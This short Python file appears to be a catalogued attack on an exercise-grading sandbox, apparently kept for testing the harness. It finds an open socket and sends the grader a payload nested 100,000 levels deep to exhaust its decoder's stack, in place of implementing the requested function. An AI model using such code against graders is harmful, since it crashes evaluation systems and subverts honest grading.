"""Send a list of lists of lists, so that the grader's decoder runs out of stack.

Seen: own idea; sandbox-and-engine E.
"""

# /// attack
# exercise = "07_deep_and_bidirectional/bidirectional_concat"
# stopped_by = "protocol"
# ///

import os
import stat
import struct


def channel() -> int:
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass
    return -1


def frame(payload: bytes) -> None:
    os.write(channel(), struct.pack("<I", len(payload)) + payload)


def final_states(h_n, num_layers):
    frame(b"\x92\xa8returned" + b"\x92\xa1l\x91" * 100_000 + b"\xc0")
    return None
